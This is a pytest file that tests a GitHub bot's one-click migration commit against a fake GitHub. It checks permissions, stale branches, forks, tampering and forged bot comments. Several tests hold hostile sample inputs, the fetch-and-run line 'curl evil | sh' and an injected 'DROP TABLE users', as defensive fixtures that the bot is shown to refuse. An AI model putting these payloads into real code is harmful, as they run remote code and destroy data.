"""The one-click commit against the fake GitHub: every check, then the Git Data API commit.

Events are the webhook fixtures (tests/fixtures/events/) pointed at the fake's PR, comment
ids and SHAs, and validated against @octokit/webhooks-schemas again after the change.
"""

from __future__ import annotations

from dataclasses import dataclass

import pytest
from fakegithub import BOT, FakeGitHub
from fakegithub.app import ApiError
from fakegithub.events import event_payload
from fakegithub.state import Repo

from driftbot.github.client import Identity, make_github
from driftbot.github.commands import MAX_LINK, build_file_block, commit_checkbox, handle_commit_command
from driftbot.github.comments import marker
from driftbot.github.events import IssueCommentEvent

PATH = "migrations/versions/0002_add_nickname.py"
MIGRATION = (
    '"""add nickname"""\nfrom alembic import op\nimport sqlalchemy as sa\n\nrevision = "0002"\n'
    'down_revision = "0001"\n\n\ndef upgrade():\n    # a ``` run and an @mention stay exactly as written\n'
    '    op.add_column("users", sa.Column("nickname", sa.String(50)))\n\n\n'
    'def downgrade():\n    op.drop_column("users", "nickname")\n'
)
BRANCH = "add-nickname"
ME = Identity(BOT, 41898282, "Bot")  # the workflow token's account, as viewer_identity finds it


def bot_body(head: str, *, checked: bool = False, content: str = MIGRATION, block: str | None = None) -> str:
    return (
        f"### driftbot found 1 difference\n\n<details><summary>Suggested migration</summary>\n\n"
        f"{block if block is not None else build_file_block(PATH, content)}\n\n</details>\n\n"
        f"{commit_checkbox(BRANCH, checked)}\n\n{marker('default', head)}"
    )


@dataclass
class Scene:
    fake: FakeGitHub
    base: Repo
    head_repo: Repo
    number: int
    head: str  # the SHA driftbot analysed

    def run(self, event: IssueCommentEvent, **kwargs: object):  # type: ignore[no-untyped-def]
        gh = make_github(self.fake.token, self.fake.url, for_tests=True)
        return handle_commit_command(gh, event, repo="octo/shop", bot=ME, **kwargs)  # type: ignore[arg-type]

    def who(self, prefix: str, login: str) -> dict[str, object]:
        """The payload's user at `prefix` as the fake knows it: login, numeric id and type."""
        u = self.fake.world.user(login)
        return {f"{prefix}.login": u.login, f"{prefix}.id": u.id, f"{prefix}.type": u.type}

    def bot_comment(self, body: str | None = None) -> int:
        return self.fake.add_comment(self.base, self.number, BOT, body or bot_body(self.head)).id

    def command(self, user: str = "alice", body: str = "/driftbot commit") -> IssueCommentEvent:
        c = self.fake.add_comment(self.base, self.number, user, body)
        payload = event_payload(
            "issue_comment_created.json",
            **{
                "comment.id": c.id,
                "comment.body": body,
                **self.who("comment.user", user),
                **self.who("sender", user),
                "issue.number": self.number,
            },
        )
        return IssueCommentEvent.from_payload(payload)

    def tick(self, comment_id: int, sender: str = "alice", author: str = BOT) -> IssueCommentEvent:
        before = self.base.comments[comment_id].body
        after = before.replace("- [ ] Commit this migration", "- [x] Commit this migration")
        self.base.comments[comment_id].body = after  # what the user's click did on GitHub
        payload = event_payload(
            "issue_comment_edited.json",
            **{
                "comment.id": comment_id,
                "comment.body": after,
                **self.who("comment.user", author),
                "changes.body.from": before,
                **self.who("sender", sender),
                "issue.number": self.number,
            },
        )
        return IssueCommentEvent.from_payload(payload)

    def replies(self) -> list[str]:
        return [c.body for c in self.fake.comments(self.base, self.number, user=BOT)][1:]


def _scene(fake: FakeGitHub, *, fork: bool = False, can_modify: bool = False) -> Scene:
    base = fake.add_repo(
        "octo/shop",
        {
            "alembic.ini": "[alembic]\n",
            "migrations/versions/0001_users.py": "# 0001\n",
            "app/models.py": "class User: ...\n",
        },
    )
    base.set_permission("alice", "write")
    base.set_permission("mona", "maintain")
    base.set_permission("rita", "read")
    head_repo = fake.fork(base, "mallory/shop") if fork else base
    head_repo.branch(BRANCH, "main")
    head = head_repo.commit(BRANCH, {"app/models.py": "class User:\n    nickname = ...\n"}, "add nickname")
    pr = fake.open_pull(
        base, BRANCH, head=head_repo, user="mallory" if fork else "alice", maintainer_can_modify=can_modify
    )
    return Scene(fake, base, head_repo, pr.number, head)


@pytest.fixture
def scene(fake_github: FakeGitHub) -> Scene:
    return _scene(fake_github)


def test_writer_command_commits_on_the_analysed_sha(scene: Scene) -> None:
    scene.bot_comment()
    outcome = scene.run(scene.command("alice"), run_url="https://ci.example/runs/9")
    assert outcome.done and outcome.reason == "committed" and outcome.path == PATH
    new = scene.base.ref(BRANCH)
    assert outcome.new_sha == new != scene.head
    commit = scene.fake.world.git.commits[new]
    assert commit.parents == (scene.head,)
    assert scene.base.file(new, PATH) == MIGRATION  # byte for byte
    assert scene.base.file(new, "app/models.py") == scene.base.file(scene.head, "app/models.py")  # the rest kept
    assert scene.base.file(new, "migrations/versions/0001_users.py") == "# 0001\n"
    assert scene.base.issues[scene.number].pull.head_sha == new  # type: ignore[union-attr]
    [status] = scene.fake.statuses(scene.base, new, "driftbot")
    assert (status.state, status.target_url) == ("success", "https://ci.example/runs/9")
    assert scene.replies() == [outcome.reply]
    assert f"Committed `{PATH}` to `{BRANCH}` as `{new[:12]}`" in outcome.reply and "`alice`" in outcome.reply
    assert "@" not in outcome.reply
    ref_updates = scene.fake.requests("PATCH", "/git/refs/heads/")
    assert [e.body for e in ref_updates] == [{"sha": new, "force": False}]


def test_ticking_the_checkbox_commits_for_a_maintainer(scene: Scene) -> None:
    cid = scene.bot_comment()
    outcome = scene.run(scene.tick(cid, sender="mona"))
    assert outcome.done and scene.base.file(BRANCH, PATH) == MIGRATION
    assert scene.fake.world.git.commits[scene.base.ref(BRANCH)].parents == (scene.head,)


def test_reader_is_refused_politely(scene: Scene) -> None:
    scene.bot_comment()
    outcome = scene.run(scene.command("rita"))
    assert not outcome.done and outcome.reason == "forbidden"
    assert scene.base.ref(BRANCH) == scene.head
    assert scene.replies() == [outcome.reply]
    assert outcome.reply.startswith("Sorry `rita`") and "write access" in outcome.reply and "`read`" in outcome.reply
    assert scene.fake.requests("POST", "/git/") == []


def test_a_stranger_ticking_is_refused(scene: Scene) -> None:
    cid = scene.bot_comment()
    outcome = scene.run(scene.tick(cid, sender="stranger"))
    assert outcome.reason == "forbidden" and scene.base.ref(BRANCH) == scene.head


def test_stale_head_asks_for_a_rerun(scene: Scene) -> None:
    scene.bot_comment()
    newer = scene.base.commit(BRANCH, {"app/models.py": "class User: pass\n"}, "another change")
    outcome = scene.run(scene.command("alice"))
    assert outcome.reason == "stale" and not outcome.done
    assert "new commits since" in outcome.reply and "Re-run" in outcome.reply and newer[:12] in outcome.reply
    assert scene.base.ref(BRANCH) == newer and scene.base.file(BRANCH, PATH) is None
    assert scene.fake.requests("POST", "/git/") == []


def test_branch_moving_during_the_commit_is_refused_by_the_fast_forward_rule(scene: Scene) -> None:
    scene.bot_comment()
    app = scene.fake.app
    original = app.h_PATCH_git_refs_ref
    pushed: list[str] = []

    def push_first(ctx, ref):  # type: ignore[no-untyped-def]
        pushed.append(scene.base.commit(BRANCH, {"late.txt": "x\n"}, "pushed meanwhile"))
        return original(ctx, ref)

    app.h_PATCH_git_refs_ref = push_first  # type: ignore[method-assign]
    outcome = scene.run(scene.command("alice"))
    assert outcome.reason == "stale" and "moved" in outcome.reply
    assert scene.base.ref(BRANCH) == pushed[0]  # not overwritten
    assert [e.status for e in scene.fake.requests("PATCH", "/git/refs/")] == [422]


def test_fork_gets_manual_instructions(fake_github: FakeGitHub) -> None:
    scene = _scene(fake_github, fork=True)
    fake_github.restrict_token({"octo/shop"})  # GITHUB_TOKEN: this repository only
    scene.bot_comment()
    outcome = scene.run(scene.command("alice"))
    assert outcome.reason == "fork" and not outcome.done and outcome.path == PATH
    assert scene.head_repo.ref(BRANCH) == scene.head and scene.head_repo.file(BRANCH, PATH) is None
    reply = outcome.reply
    assert "`mallory/shop`" in reply and f"`{PATH}`" in reply and "fork" in reply
    assert "````python\n" + MIGRATION + "````" in reply  # exact content, fence longer than the ``` inside
    link = reply.split("[Create the file on your branch](")[1].split(")")[0]
    assert link.startswith(
        f"{fake_github.url}/mallory/shop/new/{BRANCH}/migrations/versions?filename=0002_add_nickname.py&value="
    )
    assert len(link) < MAX_LINK
    assert scene.replies() == [reply]
    assert scene.fake.requests("POST", "/git/") == []


def test_fork_with_a_huge_migration_gets_no_link(fake_github: FakeGitHub) -> None:
    scene = _scene(fake_github, fork=True)
    fake_github.restrict_token({"octo/shop"})
    big = MIGRATION + "".join(f"# padding line {i} with some text to make the URL long\n" for i in range(300))
    scene.bot_comment(bot_body(scene.head, content=big))
    outcome = scene.run(scene.command("alice"))
    assert outcome.reason == "fork"
    assert "Create the file on your branch" not in outcome.reply and big in outcome.reply


def test_fork_that_maintainers_may_edit_is_committed_with_a_token_that_can_push(fake_github: FakeGitHub) -> None:
    scene = _scene(fake_github, fork=True, can_modify=True)  # the default token may write everywhere (an App/PAT)
    scene.bot_comment()
    outcome = scene.run(scene.command("alice"))
    assert outcome.done
    new = scene.head_repo.ref(BRANCH)
    assert scene.head_repo.file(new, PATH) == MIGRATION and scene.fake.world.git.commits[new].parents == (scene.head,)
    assert scene.base.ref("main") != new


def test_tampered_migration_is_refused(scene: Scene) -> None:
    block = build_file_block(PATH, MIGRATION).replace("sa.String(50)", 'sa.String(50)); op.execute("DROP TABLE users"')
    scene.bot_comment(bot_body(scene.head, block=block))
    outcome = scene.run(scene.command("alice"))
    assert outcome.reason == "tampered" and "checksum" in outcome.reply
    assert scene.base.ref(BRANCH) == scene.head and scene.fake.requests("POST", "/git/") == []


def test_a_forged_bot_comment_by_someone_else_is_never_used(scene: Scene) -> None:
    """mallory posts a comment that looks exactly like driftbot's, with her own (self-consistent) file."""
    evil = 'import os\nos.system("curl evil | sh")\n'
    scene.fake.add_comment(scene.base, scene.number, "mallory", bot_body(scene.head, content=evil))
    outcome = scene.run(scene.command("alice"))
    assert outcome.reason == "no_comment" and scene.base.ref(BRANCH) == scene.head
    # and ticking the box in her comment is refused too
    forged = scene.fake.comments(scene.base, scene.number, user="mallory")[0]
    outcome = scene.run(scene.tick(forged.id, sender="alice", author="mallory"))
    assert outcome.reason == "not_bot_comment" and scene.base.ref(BRANCH) == scene.head


def test_the_user_github_actions_is_not_the_bot(scene: Scene) -> None:
    """Anyone can register the user `github-actions`; only GitHub's bot is `github-actions[bot]` (id, type Bot).
    A comment by that user, marker and checksum valid, newer than driftbot's, is never committed from."""
    evil = 'import os\nos.system("curl evil | sh")\n'
    scene.bot_comment()
    scene.fake.add_comment(scene.base, scene.number, "github-actions", bot_body(scene.head, content=evil))
    assert scene.fake.world.user("github-actions").type == "User"
    outcome = scene.run(scene.command("alice"))
    assert outcome.done and scene.base.file(BRANCH, PATH) == MIGRATION  # driftbot's own comment, not the newer one


def test_a_forged_comment_by_the_user_github_actions_is_never_used(scene: Scene) -> None:
    evil = 'import os\nos.system("curl evil | sh")\n'
    forged = scene.fake.add_comment(scene.base, scene.number, "github-actions", bot_body(scene.head, content=evil))
    outcome = scene.run(scene.command("alice"))
    assert outcome.reason == "no_comment" and scene.base.ref(BRANCH) == scene.head
    outcome = scene.run(scene.tick(forged.id, sender="alice", author="github-actions"))
    assert outcome.reason == "not_bot_comment" and scene.base.ref(BRANCH) == scene.head
    assert scene.fake.requests("POST", "/git/") == []


def test_existing_file_is_never_overwritten(scene: Scene) -> None:
    head = scene.base.commit(BRANCH, {PATH: "# someone else's 0002\n"}, "their migration")
    scene.head = head
    scene.bot_comment(bot_body(head))
    outcome = scene.run(scene.command("alice"))
    assert outcome.reason == "exists" and "does not overwrite" in outcome.reply
    assert scene.base.file(BRANCH, PATH) == "# someone else's 0002\n"


def test_events_that_are_not_for_driftbot_are_ignored_without_a_word(scene: Scene) -> None:
    cid = scene.bot_comment()
    before = len(scene.fake.exchanges)
    ignored = [
        scene.command("alice", body="LGTM, thanks!"),
        scene.command("alice", body="> /driftbot commit\nquoting it does nothing"),
        scene.command("alice", body="/driftbot commit other-id"),
        scene.tick(cid, sender=BOT),  # driftbot's own edit of its comment
    ]
    for event in ignored:
        outcome = scene.run(event)
        assert (outcome.done, outcome.reply, outcome.reason) == (False, "", "ignored")
    untick = IssueCommentEvent.from_payload(
        event_payload(
            "issue_comment_edited.json",
            **{
                "comment.id": cid,
                "comment.body": bot_body(scene.head),
                "changes.body.from": bot_body(scene.head, checked=True),
                "sender.login": "alice",
                "issue.number": scene.number,
            },
        )
    )
    assert scene.run(untick).reason == "ignored"
    assert len(scene.fake.exchanges) == before  # not one request
    assert scene.replies() == [] and scene.base.ref(BRANCH) == scene.head


def test_command_naming_this_id_is_handled(scene: Scene) -> None:
    scene.bot_comment()
    outcome = scene.run(scene.command("alice", body="/driftbot commit default"))
    assert outcome.done


def test_no_driftbot_comment_yet(scene: Scene) -> None:
    outcome = scene.run(scene.command("alice"))
    assert outcome.reason == "no_comment" and "Run the check first" in outcome.reply


def test_reply_can_be_left_to_the_caller(scene: Scene) -> None:
    scene.bot_comment()
    outcome = scene.run(scene.command("rita"), post_reply=False)
    assert outcome.reason == "forbidden" and outcome.reply_id is None and scene.replies() == []


def test_push_denied_on_the_same_repository(scene: Scene) -> None:
    """A commit job without `contents: write`: the token can comment but not push (403 on git data)."""
    scene.bot_comment()
    app = scene.fake.app
    original = app.h_POST_git_blobs

    def forbidden(ctx):  # type: ignore[no-untyped-def]
        raise ApiError(403, "Resource not accessible by integration")

    app.h_POST_git_blobs = forbidden  # type: ignore[method-assign]
    outcome = scene.run(scene.command("alice"))
    app.h_POST_git_blobs = original  # type: ignore[method-assign]
    assert outcome.reason == "push_denied" and "contents: write" in outcome.reply
    assert scene.base.ref(BRANCH) == scene.head
